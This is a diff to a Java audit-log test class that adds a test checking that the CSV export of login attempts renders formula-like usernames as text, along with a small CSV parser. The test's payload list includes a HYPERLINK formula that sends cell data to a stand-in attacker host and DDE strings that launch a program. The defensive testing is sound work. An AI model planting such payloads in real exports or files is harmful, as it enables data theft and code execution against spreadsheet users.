@@ -46,9 +46,9 @@ class AuditTest {
     @Test
     void writesAnEntryForEveryCallThatChangesSomething() {
         Auth.anonymous();
-        Map<String, Map<String, Object>> paths = given().accept("application/json").get("/q/openapi").then().extract()
-                .path("paths");
         String token = Auth.login(Auth.ADMIN, Auth.ADMIN_PASSWORD);
+        Map<String, Map<String, Object>> paths = given().header("Authorization", "Bearer " + token)
+                .accept("application/json").get("/q/openapi").then().statusCode(200).extract().path("paths");
         List<String[]> calls = new ArrayList<>();
         paths.forEach((path, methods) -> methods.keySet().stream()
                 .filter(m -> List.of("post", "put", "delete", "patch").contains(m))
@@ -141,6 +141,68 @@ class AuditTest {
                 .get("/api/audit/export").then().statusCode(200).extract().jsonPath().getList("$");
         assertEquals(total, json.size());
         given().queryParam("format", "xml").get("/api/audit/export").then().statusCode(400);
+    }
+
+    /**
+     * The actor of a login attempt is whatever name an unauthenticated caller typed. A spreadsheet
+     * that opens the export must show such a name as text, never evaluate it as a formula.
+     */
+    @Test
+    void exportsNamesThatLookLikeFormulasAsTextInTheCsv() {
+        List<String> names = List.of("=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tsneaky-tab", "\rsneaky-cr", "semi;=1+1");
+        Auth.anonymous();
+        for (String name : names) {
+            given().contentType(ContentType.JSON).body(Map.of("username", name, "password", "not-the-password"))
+                    .post("/api/auth/login").then().statusCode(401);
+        }
+        Auth.asAdmin();
+        String csv = given().queryParam("format", "csv").queryParam("action", "auth.login").get("/api/audit/export")
+                .then().statusCode(200).extract().asString();
+        TestDatabase.reset();
+        List<String> actors = csvColumn(csv, 2);
+        for (String name : names) {
+            String cell = actors.stream().filter(a -> a.endsWith(name.substring(1))).findFirst()
+                    .orElseThrow(() -> new AssertionError("no row for " + name + " in " + actors));
+            assertFalse(cell.startsWith("=") || cell.startsWith("+") || cell.startsWith("-") || cell.startsWith("@")
+                    || cell.startsWith("\t") || cell.startsWith("\r"), "a spreadsheet would evaluate the cell " + cell);
+            assertTrue(cell.equals(name) || cell.equals("'" + name), "the name is kept, readable: " + cell);
+        }
+        assertTrue(csv.contains("\"semi;=1+1\""), "a cell with a semicolon (the separator of some locales) is quoted: " + csv);
+    }
+
+    /** One column of a CSV text (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
+    private static List<String> csvColumn(String csv, int column) {
+        List<String> values = new ArrayList<>();
+        List<String> row = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (quoted) {
+                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                    cell.append('"');
+                    i++;
+                } else if (c == '"') {
+                    quoted = false;
+                } else {
+                    cell.append(c);
+                }
+            } else if (c == '"') {
+                quoted = true;
+            } else if (c == ',') {
+                row.add(cell.toString());
+                cell.setLength(0);
+            } else if (c == '\n') {
+                row.add(cell.toString());
+                cell.setLength(0);
+                values.add(row.get(column));
+                row.clear();
+            } else {
+                cell.append(c);
+            }
+        }
+        return values.subList(1, values.size());
     }
 
     @Test
